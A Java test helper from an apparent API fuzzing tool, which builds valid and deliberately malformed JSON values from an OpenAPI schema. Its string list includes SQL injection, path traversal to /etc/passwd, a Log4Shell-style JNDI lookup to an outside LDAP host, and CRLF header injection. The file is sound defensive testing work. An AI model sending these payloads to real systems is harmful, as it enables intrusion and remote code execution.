package dev.rapport.testing;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.util.List;
import java.util.UUID;
import java.util.random.RandomGenerator;

/// Values that fit a schema of an OpenAPI document, and values that nobody who reads it would send.
final class NastyValues {

    private static final JsonNodeFactory JSON = JsonNodeFactory.instance;
    private static final int DEEP = 4;

    private static final List<String> TEXTS = List.of(
            "",
            " ",
            "\u0000",
            "a\u0000b",
            "\r\nX-Injected: 1",
            "'; drop table connection; --",
            "%' or 1=1 --",
            "../../../../etc/passwd",
            "${jndi:ldap://192.0.2.1/a}",
            "{{name}} {{",
            "=1+1",
            "\u202Eabc\u202C",
            "\uD83D\uDC69\u200D\uD83D\uDCBB".repeat(200),
            "\uD800",
            "e\u0301".repeat(500),
            "9999-99-99T99:99:99Z",
            "+1000000000-12-31T23:59:59Z",
            "Mars/Olympus",
            "null",
            "-1",
            "NaN",
            "1e400",
            "a".repeat(20_000),
            "((((a+)+)+)+)+$",
            "🤝 ünïcødé テスト עברית");

    private final RandomGenerator random;
    private final JsonNode document;

    /// @param document the OpenAPI document, for `$ref`
    NastyValues(RandomGenerator random, JsonNode document) {
        this.random = random;
        this.document = document;
    }

    String text() {
        return TEXTS.get(random.nextInt(TEXTS.size()));
    }

    /// As often right as wrong, so that what lies behind the first check is met too.
    JsonNode value(JsonNode schema) {
        return value(schema, 0);
    }

    private JsonNode value(JsonNode reference, int depth) {
        JsonNode schema = resolve(reference);
        if (depth > DEEP || random.nextInt(5) == 0) {
            return wrong();
        }
        if (schema.has("enum")) {
            return schema.path("enum").path(random.nextInt(schema.path("enum").size()));
        }
        return switch (type(schema)) {
            case "object" -> object(schema, depth);
            case "array" -> array(schema, depth);
            case "integer", "number" -> JSON.numberNode(random.nextInt(-2, 400));
            case "boolean" -> JSON.booleanNode(random.nextBoolean());
            default -> JSON.textNode(fitting(schema.path("format").asText()));
        };
    }

    private ObjectNode object(JsonNode schema, int depth) {
        ObjectNode object = JSON.objectNode();
        schema.path("properties").properties().forEach(property -> {
            if (random.nextInt(6) > 0) {
                object.set(property.getKey(), value(property.getValue(), depth + 1));
            }
        });
        if (random.nextInt(10) == 0) {
            object.set(text(), wrong());
        }
        return object;
    }

    private ArrayNode array(JsonNode schema, int depth) {
        ArrayNode array = JSON.arrayNode();
        for (int left = random.nextInt(4); left > 0; left--) {
            array.add(value(schema.path("items"), depth + 1));
        }
        return array;
    }

    private String fitting(String format) {
        return switch (format) {
            case "uuid" -> UUID.randomUUID().toString();
            case "date-time" -> "2026-03-0" + random.nextInt(1, 10) + "T09:00:00Z";
            case "date" -> "2026-02-" + random.nextInt(10, 31);
            case "uri" -> "https://example.org/" + random.nextInt();
            default -> random.nextBoolean() ? "Ana" + random.nextInt(100) : text();
        };
    }

    private JsonNode wrong() {
        return switch (random.nextInt(9)) {
            case 0 -> JSON.nullNode();
            case 1 -> JSON.booleanNode(true);
            case 2 -> JSON.numberNode(Long.MIN_VALUE);
            case 3 -> JSON.numberNode(1e308);
            case 4 -> JSON.arrayNode();
            case 5 -> JSON.objectNode();
            case 6 -> nested();
            default -> JSON.textNode(text());
        };
    }

    private static JsonNode nested() {
        ArrayNode outer = JSON.arrayNode();
        for (int level = 0; level < 200; level++) {
            outer = JSON.arrayNode().add(outer);
        }
        return outer;
    }

    private JsonNode resolve(JsonNode schema) {
        JsonNode resolved = schema;
        while (resolved.has("$ref")) {
            resolved = document.at(resolved.path("$ref").asText().substring(1));
        }
        for (String choice : List.of("allOf", "anyOf", "oneOf")) {
            if (resolved.path(choice).size() > 0) {
                return resolve(resolved.path(choice).path(0));
            }
        }
        return resolved;
    }

    /// OpenAPI 3.1 writes a type that may be missing as `["string", "null"]`.
    private static String type(JsonNode schema) {
        JsonNode type = schema.path("type");
        String first = type.isArray() ? type.path(0).asText() : type.asText();
        return first.isEmpty() && schema.has("properties") ? "object" : first;
    }
}
